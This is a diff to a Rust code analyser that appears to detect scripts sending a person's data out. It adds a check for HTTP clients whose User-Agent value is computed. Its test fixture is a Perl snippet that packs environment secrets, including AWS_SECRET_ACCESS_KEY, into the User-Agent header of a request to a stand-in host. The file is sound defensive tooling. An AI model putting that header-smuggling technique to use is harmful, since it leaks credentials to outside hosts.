@@ -1,6 +1,7 @@
 //! What other machines say to a script: commands that it runs as they come, and addresses that carry off what is the person's.
 
 use super::flow::{Flow, name, names};
+use super::fold::Fold;
 use super::lex::{Placed, Token};
 use super::sinks::{Called, inside};
 use super::taint::{Taint, holes};
@@ -109,6 +110,24 @@ impl Flow<'_> {
         !is_shown && has(words::SENDS, call.path, call.last)
             || self.asks_made_name(call, tokens)
             || self.asks_made_address(call, tokens)
+            || self.is_told_by_agent(call, tokens)
+    }
+
+    /// Whether a client is made, or asks, under a name that is computed: `agent => facts()`, `{"User-Agent": facts}`.
+    fn is_told_by_agent(&self, call: &Called<'_>, tokens: &[Placed]) -> bool {
+        const AGENTS: &[&str] = &["agent", "user_agent", "useragent", "user-agent", "http_user_agent"];
+        let given = call.given(tokens);
+        let is_agent = |placed: &Placed| match &placed.token {
+            Token::Name(name) | Token::Text(name) => AGENTS.contains(&name.to_ascii_lowercase().as_str()),
+            _ => false,
+        };
+        let Some(at) = given.iter().position(is_agent) else { return false };
+        let is_sign = |at: &usize| matches!(given.get(*at).map(|placed| &placed.token), Some(Token::Sign(_)));
+        let from = (at.saturating_add(1)..at.saturating_add(4)).find(|at| !is_sign(at)).unwrap_or(at);
+        let sign = given.get(at.saturating_add(1)).map(|placed| &placed.token);
+        let is_given = matches!(sign, Some(Token::Sign('=' | ':' | ','))) && given.get(from).is_some();
+        let is_called = || matches!(given.get(from..), Some([Placed { token: Token::Name(_), .. }, next, ..]) if next.token == Token::Sign('('));
+        is_given && (is_called() || !Fold { tokens: given, constants: &self.constants }.expression(from, 0).0.known)
     }
 
     /// Perl's `while (<$socket>)`: each line is `$_`.
@@ -224,5 +243,17 @@ mod tests {
         ] {
             assert!(of(by, path, text).is_none_or(|severity| severity < Severity::Danger), "{text}");
         }
+    }
+
+    #[test]
+    fn names_of_clients_carry_what_is_put_into_them() {
+        let of_perl = |agent: &str| {
+            let text = format!(
+                "use HTTP::Tiny;\nmy @facts = qw(OWN_SECRET AWS_SECRET_ACCESS_KEY);\nsub agent {{ my $facts = join ';', map {{ \"$_=$ENV{{$_}}\" }} @facts; return \"tool ($facts)\"; }}\nmy $res = HTTP::Tiny->new(agent => {agent}, timeout => 3)->get('https://v.invalid/latest');\n"
+            );
+            of("perl", "a.pl", &text)
+        };
+        assert_eq!(of_perl("agent('1.0')"), Some(Severity::Danger));
+        assert!(of_perl("'tool/1.0'").is_none_or(|severity| severity < Severity::Danger));
     }
 }
